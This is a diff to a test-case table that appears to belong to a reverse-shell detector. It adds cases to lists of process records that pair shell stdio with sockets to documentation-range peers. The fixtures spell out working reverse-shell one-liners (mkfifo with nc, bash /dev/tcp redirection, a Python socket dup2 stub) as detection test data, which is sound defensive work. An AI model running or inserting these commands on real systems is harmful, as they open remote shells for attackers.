@@ -11,6 +11,8 @@ CASES: Cases = {
         [
             ran("sh", stdio=("socket", "socket", "socket"), peer="203.0.113.9:4444", by=["conmon -c x", "systemd"]),
             ran("sh -i", stdio=("socket", "socket", "socket"), peer="192.0.2.9:443"),
+            ran("sh", stdio=("socket", "pipe", "pipe"), peer="192.0.2.9:443"),
+            ran("busybox sh -c 'rm f;mkfifo f;cat f|sh -i 2>&1|nc 192.0.2.9 4444 >f'"),
             ran("bash -c 'bash -i >& /dev/tcp/192.0.2.9/443 0>&1'"),
             ran("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((1,2));os.dup2(s.fileno(),0)'"),
             ran("sh -c 'rm f;mkfifo f;cat f|sh -i 2>&1|nc 192.0.2.9 4444 >f'"),
@@ -20,6 +22,7 @@ CASES: Cases = {
             ran("sh", stdio=("socket", "socket", "socket"), peer="127.0.0.1:80"),
             ran("bash", stdio=("socket", "socket", "socket"), peer="192.0.2.9:4", by=["sshd"]),
             ran("sh", stdio=("pipe", "pipe", "pipe")),
+            ran("sh /srv/serve.sh", stdio=("socket", "pipe", "pipe"), peer="192.0.2.9:443"),
         ],
     ),
     "RT-0502": (
